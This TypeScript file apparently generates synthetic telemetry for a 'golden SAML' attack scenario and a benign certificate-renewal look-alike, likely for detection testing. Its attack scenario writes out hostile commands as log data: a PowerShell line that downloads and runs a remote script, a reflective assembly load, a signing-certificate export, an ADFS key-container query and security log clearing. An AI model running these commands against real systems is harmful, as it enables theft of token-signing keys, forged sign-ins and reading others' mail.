import { entraAudit, entraSignIn } from '../../records/entra.ts';
import { mailAccess } from '../../records/microsoft-365.ts';
import { scriptBlock, securityLogCleared } from '../../records/windows.ts';
import { insideAddress, outsideAddress } from '../stage.ts';
import { CMD, EXPLORER, POWERSHELL, SYSTEM32 } from '../windows-paths.ts';
import { lairOf, reach, run, runAll } from './moves.ts';
import type { ScenarioMaker } from './scenario-maker.ts';

export const goldenSaml: ScenarioMaker = {
  name: 'golden-saml',

  attack(story) {
    const { kit, dice, world, cast } = story;
    const admin = cast.administrator();
    const server = cast.server('application');
    const target = cast.person('executive', 'finance', 'legal');
    const lair = lairOf(story);
    story.lifeOf(admin, 8);
    story.lifeOf(target, 18);
    const from = insideAddress(world, admin, story.now());
    story.step('reach', 'The federation server is reached as an administrator', 'lateral-movement', reach(story, { who: admin.admin, from, to: server, type: dice.chance(0.5) ? 10 : 3 }));
    story.wait(2, 20);
    story.step('look', 'The directory is asked for the key container', 'discovery', runAll(story, { host: server.name, who: admin.admin, parentImage: CMD, integrity: 'High' }, [[`${SYSTEM32}whoami.exe`, 'whoami /all'], [`${SYSTEM32}dsquery.exe`, 'dsquery * "CN=ADFS,CN=Microsoft,CN=Program Data" -filter "(objectClass=contact)" -attr thumbnailPhoto']]));
    story.wait(1, 15);
    const code = dice.chance(0.5) ? '$c=[Convert]::FromBase64String($b); [Reflection.Assembly]::Load($c).EntryPoint.Invoke($null,@()) # AmsiUtils' : "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:8081/a.ps1'); Export-PfxCertificate -Cert $cert -FilePath C:\\Windows\\Temp\\s.pfx";
    story.step('key', 'The key that signs tokens is taken', 'credential-access', [
      run(story, { host: server.name, who: admin.admin, image: POWERSHELL, commandLine: 'powershell.exe -nop -ep bypass', parentImage: CMD, integrity: 'High' }),
      scriptBlock(kit, story.now() + 4_000, { host: server.name, who: admin.admin, text: code }),
    ]);
    if (dice.chance(0.4)) {
      story.wait(2, 10);
      story.step('traces', 'Traces are removed', 'defense-evasion', [securityLogCleared(kit, story.now(), server.name, admin.admin)]);
    }
    story.wait(60, 600);
    story.step('forged', 'Sign-ins with a token that no server gave out', 'initial-access', ['Azure Portal', 'Office 365 Exchange Online'].map((app, i) => entraSignIn(kit, story.now() + i * 70_000, { who: i === 0 ? admin.admin : target, address: lair.address, place: lair.place, app, protocol: 'saml20', userAgent: lair.browser, risk: dice.chance(0.5) ? 'medium' : 'none', requirement: 'singleFactorAuthentication' })));
    story.wait(5, 60);
    const domain = { id: kit.id('domain', story.now()), displayName: world.org.domain, type: 'Other', modifiedProperties: [{ displayName: 'LiveType', oldValue: '"Managed"', newValue: '"Federated"' }] };
    story.step('trust', 'The trust of a domain is changed', 'persistence', [entraAudit(kit, story.now(), { who: admin.admin, address: lair.address, activity: 'Set federation settings on domain', category: 'DirectoryManagement', targets: [domain], userAgent: lair.browser })]);
    story.wait(3, 40);
    const app = { id: kit.id('app', story.now()), displayName: dice.one(['Mail Archive', 'Backup Connector']), type: 'Application', modifiedProperties: [{ displayName: 'KeyDescription', oldValue: '[]', newValue: '"[KeyIdentifier=1,KeyType=Password,KeyUsage=Verify,DisplayName=]"' }] };
    story.step('secret', 'An application gets a further secret', 'persistence', [entraAudit(kit, story.now(), { who: admin.admin, address: lair.address, activity: 'Update application – Certificates and secrets management ', category: 'ApplicationManagement', targets: [app], userAgent: lair.browser })]);
    story.wait(5, 90);
    story.step('read', 'Mail is read through it', 'collection', Array.from({ length: dice.int(25, 80) }, (_, i) => mailAccess(kit, story.now() + i * 2_000, { who: target, address: lair.address, client: 'Client=REST;Client=RESTSystem;python-requests/2.32.3', appId: app.id, messageIds: [`<${dice.hex(20)}@${world.org.domain}>`] })));
    return story.end({ title: 'Forged tokens of the federation', description: `As ${admin.name} somebody takes the key that signs tokens from the federation server, signs in as whom they like, changes the trust of the domain and reads mail.`, severity: 'critical', domains: ['endpoint', 'identity', 'email'] });
  },

  /** The certificates of the federation and of applications are renewed. */
  lookAlike(story) {
    const { kit, dice, world, cast } = story;
    const admin = cast.administrator();
    const server = cast.server('application');
    story.lifeOf(admin, 8);
    const from = insideAddress(world, admin, story.now());
    story.step('reach', 'The federation server is reached', 'lateral-movement', reach(story, { who: admin.admin, from, to: server, type: 10 }));
    story.wait(2, 10);
    story.step('key', 'The certificate is renewed', 'credential-access', runAll(story, { host: server.name, who: admin.admin, parentImage: EXPLORER, integrity: 'High' }, [[`${SYSTEM32}mmc.exe`, '"mmc.exe" "C:\\Windows\\ADFS\\Microsoft.IdentityServer.msc"'], [POWERSHELL, 'powershell.exe -NoProfile -Command "Update-AdfsCertificate -CertificateType Token-Signing"']]));
    story.wait(10, 60);
    const address = outsideAddress(world, admin, story.now());
    story.step('secret', 'Applications get new certificates', 'persistence', ['CRM', 'Expenses', 'Learning'].map((name, i) => entraAudit(kit, story.now() + i * 240_000, { who: admin.admin, address, activity: 'Update application – Certificates and secrets management ', category: 'ApplicationManagement', targets: [{ id: kit.id('app', story.now()), displayName: name, type: 'Application', modifiedProperties: [{ displayName: 'KeyDescription', oldValue: '[]', newValue: '"[KeyType=AsymmetricX509Cert,DisplayName=2027]"' }] }] })));
    return story.end({ title: 'Certificates are renewed', description: `${admin.name} renews the certificate of the federation and those of ${dice.one(['three', 'some'])} applications.`, domains: ['endpoint', 'identity'] });
  },
};
